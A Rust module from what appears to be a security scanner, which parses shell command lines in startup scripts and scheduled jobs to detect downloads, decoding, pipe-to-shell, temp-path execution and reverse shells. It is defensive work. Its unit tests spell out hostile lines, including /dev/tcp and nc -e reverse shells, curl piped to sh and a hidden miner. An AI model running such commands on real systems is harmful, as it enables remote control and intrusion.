//! What a shell command line does that startup scripts and scheduled jobs rarely need:
//! download, decode hidden text, feed text to a shell, run or drop files in temporary or
//! hidden places, make files executable, detach, or open a shell to a remote host.
//!
//! [`analyse`] reads one line the way a shell would split it (quotes, pipes, `;`, `&&`,
//! redirections, `$(...)` and backquotes) without running anything, and answers the
//! [`Signs`] it shows. `sh -c '...'`, `eval` and substitutions are read inside too. What
//! counts as a temporary directory, and which programs run scripts, is the verdict rules'
//! ([`super::signs`]).

use std::{
    collections::BTreeSet,
    path::{Component, Path, PathBuf},
};

use super::signs;

/// One thing a command line does. Declared worst first: [`Signs::worst`] is the first
/// of these a line shows.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Sign {
    /// A shell connected to a remote host: `/dev/tcp/...`, `nc -e`, `socat exec:`.
    ReverseShell,
    /// Fetches from the network: `wget`, `curl`, `tftp`, ...
    Download,
    /// Decodes hidden text: `base64 -d`, `openssl base64 -d`.
    Decode,
    /// Feeds text to a shell or interpreter: `... | sh`, `bash -c "$(...)"`, `eval`.
    PipeToShell,
    /// Runs, downloads into or makes executable a file under `/tmp`, `/var/tmp` or
    /// `/dev/shm`.
    TempPath,
    /// The same with a file or directory whose name starts with a dot.
    HiddenPath,
    /// `chmod +x` (or a mode with an execute bit).
    MakeExecutable,
    /// Detached from the caller: `nohup`, `setsid`, a trailing `&`.
    Background,
}

/// What [`analyse`] found in a line.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Signs {
    signs: BTreeSet<Sign>,
    /// The programs behind the signs (`wget`, `base64`, `/dev/tcp`), in order, once each.
    pub tools: Vec<String>,
    /// The temporary or hidden files involved, in order, once each.
    pub places: Vec<String>,
}

impl Signs {
    pub fn has(&self, sign: Sign) -> bool {
        self.signs.contains(&sign)
    }

    /// The worst sign shown, if any.
    pub fn worst(&self) -> Option<Sign> {
        self.signs.first().copied()
    }

    fn add(&mut self, sign: Sign) {
        self.signs.insert(sign);
    }

    fn tool(&mut self, sign: Sign, tool: &str) {
        self.add(sign);
        if !self.tools.iter().any(|known| known == tool) {
            self.tools.push(tool.to_owned());
        }
    }

    fn merge(&mut self, other: Signs) {
        self.signs.extend(other.signs);
        for tool in other.tools {
            if !self.tools.contains(&tool) {
                self.tools.push(tool);
            }
        }
        for place in other.places {
            if !self.places.contains(&place) {
                self.places.push(place);
            }
        }
    }

    /// Notes `path` if it lies in a temporary or hidden place.
    fn place(&mut self, path: &str, cwd: Option<&Path>) {
        let path = match cwd {
            Some(dir) if !path.starts_with('/') => dir.join(path),
            _ => PathBuf::from(path),
        };
        let temp = signs::temp_dir(&path).is_some();
        let hidden = is_hidden(&path);
        if temp {
            self.add(Sign::TempPath);
        }
        if hidden {
            self.add(Sign::HiddenPath);
        }
        let shown = path.display().to_string();
        if (temp || hidden) && !self.places.contains(&shown) {
            self.places.push(shown);
        }
    }
}

/// The signs in one command line.
pub fn analyse(line: &str) -> Signs {
    analyse_nested(line, 0)
}

/// Deepest `sh -c` / substitution nesting read.
const MAX_DEPTH: usize = 4;

fn analyse_nested(line: &str, depth: usize) -> Signs {
    let mut signs = Signs::default();
    if depth > MAX_DEPTH {
        return signs;
    }
    let commands = split(&tokenize(line));
    let mut cwd: Option<PathBuf> = None;
    let found: Vec<Signs> = commands
        .iter()
        .map(|command| command_signs(command, &mut cwd, depth))
        .collect();
    for (index, command) in commands.iter().enumerate() {
        // A substitution whose output a shell runs: `$(curl ...)` as the command itself,
        // or as what an interpreter or eval is given.
        let runs_output = match command.program() {
            None => true,
            Some((_, name, _)) => runs_code(name) || name == "eval",
        };
        let fetched = commands.iter().zip(&found).any(|(inner, inner_signs)| {
            inner.parent == Some(index)
                && (inner_signs.has(Sign::Download) || inner_signs.has(Sign::Decode))
        });
        if runs_output && fetched {
            signs.add(Sign::PipeToShell);
        }
    }
    for command_signs in found {
        signs.merge(command_signs);
    }
    signs
}

/// Programs that fetch from the network.
const DOWNLOADERS: &[&str] = &[
    "wget",
    "curl",
    "fetch",
    "tftp",
    "ftp",
    "lftp",
    "aria2c",
    "axel",
    "lwp-download",
    "lwp-request",
    "GET",
];

/// Shells, whose `-c` argument is shell code.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash"];

/// Programs that run the command after them (with their own options first).
const WRAPPERS: &[&str] = &[
    "nohup", "setsid", "exec", "nice", "ionice", "sudo", "doas", "env", "timeout", "stdbuf",
    "command", "time", "busybox", "chronic", "flock",
];

/// Dot directories where per-user toolchains live: running from them is not hiding.
const USUAL_DOT_DIRS: &[&str] = &[
    ".local", ".cargo", ".rustup", ".nvm", ".pyenv", ".rbenv", ".sdkman", ".asdf", ".volta",
    ".deno", ".bun",
];

fn command_signs(command: &Command, cwd: &mut Option<PathBuf>, depth: usize) -> Signs {
    let mut signs = Signs::default();
    if command.background || command.detached() {
        signs.add(Sign::Background);
    }
    for word in command.words.iter().chain(&command.redirects) {
        if word.contains("/dev/tcp/") || word.contains("/dev/udp/") {
            signs.tool(Sign::ReverseShell, "/dev/tcp");
        }
    }
    let Some((program, name, args)) = command.program() else {
        return signs;
    };
    if program.contains('/') {
        signs.place(program, cwd.as_deref());
    }
    // Shell code this command runs (`sh -c CODE`, `eval ...`, `su -c CODE`).
    let mut code: Option<String> = None;
    match name {
        "cd" => {
            // Relative programs after `cd DIR` run from DIR, when DIR is known.
            *cwd = match (args.first(), cwd.take()) {
                (Some(dir), _) if dir.starts_with('/') => Some(PathBuf::from(dir)),
                (Some(dir), Some(current)) => Some(current.join(dir)),
                _ => None,
            };
        }
        _ if DOWNLOADERS.contains(&name) => {
            signs.tool(Sign::Download, name);
            for output in download_outputs(name, args, cwd.as_deref()) {
                signs.place(&output, cwd.as_deref());
            }
            for target in &command.redirects {
                signs.place(target, cwd.as_deref());
            }
        }
        "base64"
            if args
                .iter()
                .any(|a| matches!(a.as_str(), "-d" | "-D" | "--decode")) =>
        {
            signs.tool(Sign::Decode, name);
        }
        "openssl"
            if args.iter().any(|a| a.contains("base64") || a == "-a")
                && args.iter().any(|a| a == "-d") =>
        {
            signs.tool(Sign::Decode, name);
        }
        "chmod" => {
            let mut operands = args.iter().filter(|a| !a.starts_with('-'));
            if operands.next().is_some_and(|mode| gives_execute(mode)) {
                signs.tool(Sign::MakeExecutable, name);
                for target in operands {
                    signs.place(target, cwd.as_deref());
                }
            }
        }
        "nc" | "ncat" | "netcat" if args.iter().any(|a| a == "-e" || a == "-c") => {
            signs.tool(Sign::ReverseShell, &format!("{name} -e"));
        }
        "socat"
            if args.iter().any(|a| {
                let a = a.to_ascii_lowercase();
                a.contains("exec:") || a.contains("system:")
            }) =>
        {
            signs.tool(Sign::ReverseShell, name);
        }
        "eval" => code = Some(args.join(" ")),
        "su" => code = option_value(args, "-c").map(str::to_owned),
        _ if runs_code(name) => match SHELLS.contains(&name).then(|| shell_code(args)).flatten() {
            Some(text) => code = Some(text.to_owned()),
            None => match script_argument(args) {
                Some(script) => signs.place(script, cwd.as_deref()),
                None if command.piped => signs.tool(Sign::PipeToShell, name),
                None => {}
            },
        },
        _ => {}
    }
    if let Some(code) = &code {
        signs.merge(analyse_nested(code, depth + 1));
    }
    // Substitutions in arguments (`"$(curl ...)"`) run too; their output is code only for
    // an interpreter or eval.
    for word in args {
        let substitutes = word.contains("$(") || word.contains('`');
        if !substitutes || code.as_deref() == Some(word.as_str()) {
            continue;
        }
        let inner = analyse_nested(&format!(": {word}"), depth + 1);
        if (runs_code(name) || name == "eval")
            && (inner.has(Sign::Download) || inner.has(Sign::Decode))
        {
            signs.add(Sign::PipeToShell);
        }
        signs.merge(inner);
    }
    signs
}

/// Shells and the interpreters the verdict rules know: programs that run code.
fn runs_code(name: &str) -> bool {
    SHELLS.contains(&name) || signs::is_interpreter(name)
}

/// Where a download tool writes: `-O FILE`, `-o FILE`, `-P DIR` (also inside a cluster
/// of options: `-qO FILE`, `-fsSLo FILE`), their long forms (`--output-document FILE` or
/// `=FILE`); the working directory for curl's `-O` and for wget without an output option.
fn download_outputs(name: &str, args: &[String], cwd: Option<&Path>) -> Vec<String> {
    let (letters, long): (&[char], &[&str]) = match name {
        "wget" => (&['O', 'P'], &["--output-document", "--directory-prefix"]),
        "curl" => (&['o'], &["--output", "--output-dir"]),
        _ => (&[], &[]),
    };
    let mut outputs = Vec::new();
    let mut words = args.iter();
    while let Some(word) = words.next() {
        if long.contains(&word.as_str()) {
            outputs.extend(words.next().cloned());
        } else if let Some(value) = long
            .iter()
            .find_map(|flag| word.strip_prefix(flag)?.strip_prefix('='))
        {
            outputs.push(value.to_owned());
        } else if let Some(cluster) = word.strip_prefix('-').filter(|c| !c.starts_with('-'))
            && let Some(at) = cluster.find(|c| letters.contains(&c))
        {
            // The option's value is the rest of the cluster, or the next word.
            match &cluster[at + 1..] {
                "" => outputs.extend(words.next().cloned()),
                value => outputs.push(value.to_owned()),
            }
        }
    }
    outputs.retain(|output| output != "-");
    let remote_name = name == "curl" && args.iter().any(|a| a == "-O" || a == "--remote-name");
    let wget_default = name == "wget" && outputs.is_empty();
    if (remote_name || wget_default)
        && let Some(dir) = cwd
    {
        outputs.push(dir.display().to_string());
    }
    outputs
}

/// `+x`, `u+x`, `a=rwx`, `755`: a mode that sets an execute bit.
fn gives_execute(mode: &str) -> bool {
    if !mode.is_empty() && mode.chars().all(|c| c.is_ascii_digit()) {
        let digits = mode.as_bytes();
        let last = &digits[digits.len().saturating_sub(3)..];
        return last.iter().any(|d| (d - b'0') % 2 == 1);
    }
    mode.split(',').any(|clause| {
        clause
            .split_once(['+', '='])
            .is_some_and(|(_, perms)| perms.contains('x'))
    })
}

/// The shell code of `sh -c CODE` (also `-ec`, `-lc`).
fn shell_code(args: &[String]) -> Option<&str> {
    let mut words = args.iter();
    while let Some(word) = words.next() {
        let flags = word.strip_prefix('-')?;
        if !flags.starts_with('-') && flags.contains('c') {
            return words.next().map(String::as_str);
        }
    }
    None
}

/// The value after `flag`, if present.
fn option_value<'a>(args: &'a [String], flag: &str) -> Option<&'a str> {
    let at = args.iter().position(|a| a == flag)?;
    args.get(at + 1).map(String::as_str)
}

/// The script an interpreter runs: its first argument that is not an option. `None` when
/// it reads its program from standard input (no argument, `-`, or `-s`).
fn script_argument(args: &[String]) -> Option<&str> {
    if args.iter().any(|a| a == "-s") {
        return None;
    }
    args.iter()
        .map(String::as_str)
        .find(|a| !a.starts_with('-') || *a == "-")
        .filter(|a| *a != "-")
}

/// A file or directory on the path whose name starts with a dot, besides the usual
/// per-user toolchain directories.
fn is_hidden(path: &Path) -> bool {
    path.components().any(|component| match component {
        Component::Normal(name) => {
            let name = name.to_string_lossy();
            name.starts_with('.') && name.len() > 1 && !USUAL_DOT_DIRS.contains(&name.as_ref())
        }
        _ => false,
    })
}

/// One simple command: its words, where its output or input is redirected, and how it
/// is joined to the others.
#[derive(Debug, Default)]
struct Command {
    words: Vec<String>,
    redirects: Vec<String>,
    /// Reads the previous command's output (`a | b`: b).
    piped: bool,
    /// Followed by `&`.
    background: bool,
    /// The command whose `$(...)`, `(...)` or backquotes hold this one.
    parent: Option<usize>,
}

impl Command {
    /// The program run after assignments and wrappers, its file name, and its arguments.
    fn program(&self) -> Option<(&str, &str, &[String])> {
        let mut at = 0;
        while let Some(word) = self.words.get(at) {
            let name = file_name(word);
            if is_assignment(word) {
                at += 1;
            } else if WRAPPERS.contains(&name) {
                at += 1;
                at += wrapper_options(name, &self.words[at..]);
            } else {
                return Some((word.as_str(), name, &self.words[at + 1..]));
            }
        }
        None
    }

    /// Started under `nohup` or `setsid`.
    fn detached(&self) -> bool {
        self.words
            .iter()
            .take_while(|word| is_assignment(word) || WRAPPERS.contains(&file_name(word)))
            .any(|word| matches!(file_name(word), "nohup" | "setsid"))
    }
}

/// How many words after a wrapper are its own options (and their values).
fn wrapper_options(wrapper: &str, rest: &[String]) -> usize {
    let mut at = 0;
    while let Some(word) = rest.get(at) {
        if is_assignment(word) && wrapper == "env" {
            at += 1;
        } else if word.starts_with('-') && word.len() > 1 {
            at += 1;
            let takes_value = matches!(
                (wrapper, word.as_str()),
                ("sudo" | "doas", "-u" | "-g")
                    | ("nice", "-n")
                    | ("ionice", "-c" | "-n")
                    | ("timeout", "-s" | "-k")
                    | ("exec", "-a")
            );
            if takes_value {
                at += 1;
            }
        } else if matches!(wrapper, "timeout" | "flock") {
            // The first operand is the duration, or the lock file.
            return at + 1;
        } else {
            break;
        }
    }
    at
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

fn file_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// A line split the way a shell splits it.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Token {
    Word(String),
    /// `|`, `|&`.
    Pipe,
    /// `;`, `&&`, `||`.
    Separator,
    /// `&`.
    Background,
    /// `>`, `>>`, `<`, `2>&`, `&>`: the next word is where it goes.
    Redirect,
    /// `$(`, `(`, `<(`, `>(`, an opening backquote.
    Open,
    /// `)`, a closing backquote.
    Close,
}

fn tokenize(line: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut backquoted = false;
    let mut chars = line.chars().peekable();
    let flush = |tokens: &mut Vec<Token>, word: &mut String, in_word: &mut bool| {
        if *in_word {
            tokens.push(Token::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                if let Some(next) = chars.next() {
                    word.push(next);
                    in_word = true;
                }
            }
            '\'' => {
                in_word = true;
                for next in chars.by_ref() {
                    if next == '\'' {
                        break;
                    }
                    word.push(next);
                }
            }
            '"' => {
                in_word = true;
                while let Some(next) = chars.next() {
                    match next {
                        '"' => break,
                        '\\' => {
                            if let Some(escaped) = chars.next() {
                                if !matches!(escaped, '"' | '\\' | '$' | '`') {
                                    word.push('\\');
                                }
                                word.push(escaped);
                            }
                        }
                        _ => word.push(next),
                    }
                }
            }
            '#' if !in_word => break,
            c if c.is_whitespace() => flush(&mut tokens, &mut word, &mut in_word),
            '|' => {
                flush(&mut tokens, &mut word, &mut in_word);
                if chars.next_if_eq(&'|').is_some() {
                    tokens.push(Token::Separator);
                } else {
                    chars.next_if_eq(&'&');
                    tokens.push(Token::Pipe);
                }
            }
            '&' => {
                flush(&mut tokens, &mut word, &mut in_word);
                if chars.next_if_eq(&'&').is_some() {
                    tokens.push(Token::Separator);
                } else if chars.next_if_eq(&'>').is_some() {
                    chars.next_if_eq(&'>');
                    tokens.push(Token::Redirect);
                } else {
                    tokens.push(Token::Background);
                }
            }
            ';' => {
                flush(&mut tokens, &mut word, &mut in_word);
                chars.next_if_eq(&';');
                tokens.push(Token::Separator);
            }
            '<' | '>' => {
                if chars.next_if_eq(&'(').is_some() {
                    flush(&mut tokens, &mut word, &mut in_word);
                    tokens.push(Token::Open);
                    continue;
                }
                // `2>`: the digits name a file descriptor, not a word.
                if in_word && !word.is_empty() && word.chars().all(|d| d.is_ascii_digit()) {
                    word.clear();
                    in_word = false;
                } else {
                    flush(&mut tokens, &mut word, &mut in_word);
                }
                while chars.next_if(|n| matches!(n, '<' | '>' | '&')).is_some() {}
                tokens.push(Token::Redirect);
            }
            '$' if chars.peek() == Some(&'(') => {
                flush(&mut tokens, &mut word, &mut in_word);
                chars.next();
                tokens.push(Token::Open);
            }
            '(' => {
                flush(&mut tokens, &mut word, &mut in_word);
                tokens.push(Token::Open);
            }
            ')' => {
                flush(&mut tokens, &mut word, &mut in_word);
                tokens.push(Token::Close);
            }
            '`' => {
                flush(&mut tokens, &mut word, &mut in_word);
                tokens.push(if backquoted {
                    Token::Close
                } else {
                    Token::Open
                });
                backquoted = !backquoted;
            }
            _ => {
                word.push(c);
                in_word = true;
            }
        }
    }
    flush(&mut tokens, &mut word, &mut in_word);
    tokens
}

/// The simple commands of a token stream, in order; commands inside a substitution
/// name the command that holds it.
fn split(tokens: &[Token]) -> Vec<Command> {
    let mut commands = vec![Command::default()];
    let mut current = 0;
    let mut holders: Vec<usize> = Vec::new();
    let mut redirect_next = false;
    let start = |commands: &mut Vec<Command>, parent: Option<usize>, piped: bool| {
        commands.push(Command {
            piped,
            parent,
            ..Command::default()
        });
        commands.len() - 1
    };
    for token in tokens {
        match token {
            Token::Word(word) => {
                let command = &mut commands[current];
                if std::mem::take(&mut redirect_next) {
                    command.redirects.push(word.clone());
                } else {
                    command.words.push(word.clone());
                }
            }
            Token::Redirect => redirect_next = true,
            Token::Pipe => current = start(&mut commands, holders.last().copied(), true),
            Token::Separator => current = start(&mut commands, holders.last().copied(), false),
            Token::Background => {
                commands[current].background = true;
                current = start(&mut commands, holders.last().copied(), false);
            }
            Token::Open => {
                redirect_next = false;
                holders.push(current);
                current = start(&mut commands, Some(current), false);
            }
            Token::Close => {
                if let Some(holder) = holders.pop() {
                    current = holder;
                }
            }
        }
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signs_of(line: &str) -> Vec<Sign> {
        analyse(line).signs.into_iter().collect()
    }

    use Sign::*;

    #[test]
    fn downloads_into_temporary_places_are_seen() {
        let signs = analyse("wget -q http://203.0.113.50/sys -O /tmp/sys");
        assert_eq!(
            signs.signs.iter().copied().collect::<Vec<_>>(),
            [Download, TempPath]
        );
        assert_eq!(signs.tools, ["wget"]);
        assert_eq!(signs.places, ["/tmp/sys"]);
        assert_eq!(
            signs_of("curl -fsSL -o/var/tmp/.x http://x/y"),
            [Download, TempPath, HiddenPath]
        );
        assert_eq!(
            signs_of("cd /dev/shm && wget http://x/y"),
            [Download, TempPath]
        );
        assert_eq!(
            signs_of("cd /tmp; curl -O http://x/y"),
            [Download, TempPath]
        );
        assert_eq!(
            signs_of("curl http://x/y > /tmp/y 2>/dev/null"),
            [Download, TempPath]
        );
        assert_eq!(signs_of("wget -qO /tmp/k http://x/k"), [Download, TempPath]);
        assert_eq!(
            signs_of("curl -fsSLo /dev/shm/k http://x/k"),
            [Download, TempPath]
        );
        assert_eq!(
            signs_of("wget -qO- http://x/k > /var/tmp/k"),
            [Download, TempPath]
        );
        assert_eq!(
            signs_of("wget --output-document=/dev/shm/k http://x/k"),
            [Download, TempPath]
        );
        // A health-check ping writes nowhere.
        assert_eq!(
            signs_of("curl -fsS -m 10 https://hc-ping.com/abc > /dev/null"),
            [Download]
        );
    }

    #[test]
    fn piping_or_substituting_into_a_shell_is_seen() {
        assert_eq!(
            signs_of("curl -fsSL http://x/s.sh | sh"),
            [Download, PipeToShell]
        );
        assert_eq!(
            signs_of("wget -qO- http://x | bash -s -- a"),
            [Download, PipeToShell]
        );
        assert_eq!(
            signs_of("echo ZWNobyBoaQ== | base64 -d | bash"),
            [Decode, PipeToShell]
        );
        assert_eq!(
            signs_of(r#"bash -c "$(curl -fsSL http://x/i)""#),
            [Download, PipeToShell]
        );
        assert_eq!(
            signs_of("sh -c 'curl http://x | sh'"),
            [Download, PipeToShell]
        );
        assert_eq!(
            signs_of("eval `wget -qO- http://x`"),
            [Download, PipeToShell]
        );
        assert_eq!(
            signs_of("bash <(curl -s http://x)"),
            [Download, PipeToShell]
        );
        assert_eq!(signs_of("$(curl -s http://x)"), [Download, PipeToShell]);
        // Text piped to a script, or a script that reads a file, is not shell code.
        assert!(signs_of("cat /etc/hosts | python3 /usr/local/bin/report.py").is_empty());
        assert!(signs_of("date | logger -t boot").is_empty());
        // Output kept, not run.
        assert_eq!(
            signs_of("echo $(curl -s http://x) >> /var/log/ip"),
            [Download]
        );
    }

    #[test]
    fn running_from_temporary_or_hidden_places_is_seen() {
        assert_eq!(signs_of("/tmp/sys"), [TempPath]);
        assert_eq!(
            signs_of("nohup /dev/shm/.x/miner -o pool &"),
            [TempPath, HiddenPath, Background]
        );
        assert_eq!(
            signs_of("sudo -u www-data /usr/local/bin/.update"),
            [HiddenPath]
        );
        assert_eq!(signs_of("python3 /var/tmp/x.py"), [TempPath]);
        assert_eq!(signs_of("cd /tmp && ./x"), [TempPath]);
        assert_eq!(signs_of("chmod +x /tmp/sys"), [TempPath, MakeExecutable]);
        assert_eq!(signs_of("chmod 755 /usr/local/bin/tool"), [MakeExecutable]);
        assert!(signs_of("chmod 644 /tmp/x").is_empty());
        // Writing a log into /tmp, or cleaning it, runs nothing from there.
        assert!(signs_of("/usr/bin/backup > /tmp/backup.log 2>&1").is_empty());
        assert!(signs_of("find /tmp -mtime +7 -delete").is_empty());
        // Per-user toolchains are not hiding.
        assert!(signs_of("/home/ci/.cargo/bin/sweep").is_empty());
    }

    #[test]
    fn reverse_shells_are_seen() {
        assert_eq!(
            signs_of("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
            [ReverseShell]
        );
        assert_eq!(signs_of("nc -e /bin/sh 198.51.100.7 4444"), [ReverseShell]);
        assert_eq!(
            signs_of("socat TCP:198.51.100.7:4444 EXEC:/bin/bash"),
            [ReverseShell]
        );
        assert!(signs_of("nc -z localhost 22").is_empty());
    }

    #[test]
    fn ordinary_lines_show_nothing() {
        for line in [
            "",
            "exit 0",
            "# wget http://x -O /tmp/x",
            "cd / && run-parts --report /etc/cron.daily",
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
            "/sbin/e2scrub_all -A -r",
            "echo 'wget http://x | sh' > /dev/null",
            "PATH=/usr/sbin:/usr/bin /usr/sbin/logrotate /etc/logrotate.conf",
        ] {
            assert!(signs_of(line).is_empty(), "{line:?}: {:?}", signs_of(line));
        }
    }

    #[test]
    fn quoting_and_redirections_split_as_a_shell_does() {
        assert_eq!(
            tokenize(r#"a 'b c' "d \"e\"" f\ g 2>&1 >>x|y"#),
            [
                Token::Word("a".into()),
                Token::Word("b c".into()),
                Token::Word("d \"e\"".into()),
                Token::Word("f g".into()),
                Token::Redirect,
                Token::Word("1".into()),
                Token::Redirect,
                Token::Word("x".into()),
                Token::Pipe,
                Token::Word("y".into()),
            ]
        );
        assert_eq!(
            tokenize("a && b || c; d & e # f"),
            [
                Token::Word("a".into()),
                Token::Separator,
                Token::Word("b".into()),
                Token::Separator,
                Token::Word("c".into()),
                Token::Separator,
                Token::Word("d".into()),
                Token::Background,
                Token::Word("e".into()),
            ]
        );
    }
}
